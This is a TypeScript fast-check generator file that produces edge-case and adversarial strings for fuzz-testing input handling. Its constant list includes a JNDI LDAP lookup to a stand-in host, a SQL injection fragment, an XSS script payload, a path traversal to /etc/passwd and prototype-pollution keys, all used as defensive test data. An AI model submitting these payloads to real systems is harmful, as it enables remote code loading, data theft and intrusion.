import fc from 'fast-check';
import { codePoint } from '../../support/values/code-points.ts';

/** Unicode text that tends to break programs. */
export const nastyText = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.string({ unit: codePoint, maxLength: 40 }),
    fc.string({ unit: 'grapheme', maxLength: 40 }),
    fc.constantFrom(
      '',
      ' ',
      '\0',
      '\ufeff',
      '\u202e',
      '\u2028',
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      '$context.requestId',
      `\${jndi:ldap://a.example}`,
      `' OR 1=1 --`,
      '<script>alert(1)</script>',
      '../../../../etc/passwd',
      '#ORG#',
      'null',
      'undefined',
      'NaN',
      '-0',
      '1e309',
      '9'.repeat(40),
      'ß'.repeat(200),
      '𝒳'.repeat(300),
    ),
    // Lone surrogates, which JSON can express and UTF-8 cannot.
    fc.constantFrom('\ud800', 'a\udfff'),
    fc.integer({ min: 1, max: 14 }).map((power) => 'a'.repeat(2 ** power)),
  );

/** Any bytes except line terminators. */
export const bytes = (maxLength: number): fc.Arbitrary<string> =>
  fc.uint8Array({ maxLength }).map((array) =>
    Buffer.from(array)
      .toString('latin1')
      .replaceAll(/[\r\n]/g, '.'),
  );

/** Replaces, removes or repeats one character. */
export const mutated = (text: string): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.nat({ max: Math.max(0, text.length - 1) }),
      fc.constantFrom('', 'A', '0', ' ', '.', '=', '\0', '\xe9', 'repeat'),
      fc.boolean(),
    )
    .map(([index, replacement, isInserted]) => {
      const new_ = replacement === 'repeat' ? (text[index] ?? '') : replacement;
      return text.slice(0, index) + new_ + text.slice(isInserted ? index : index + 1);
    });
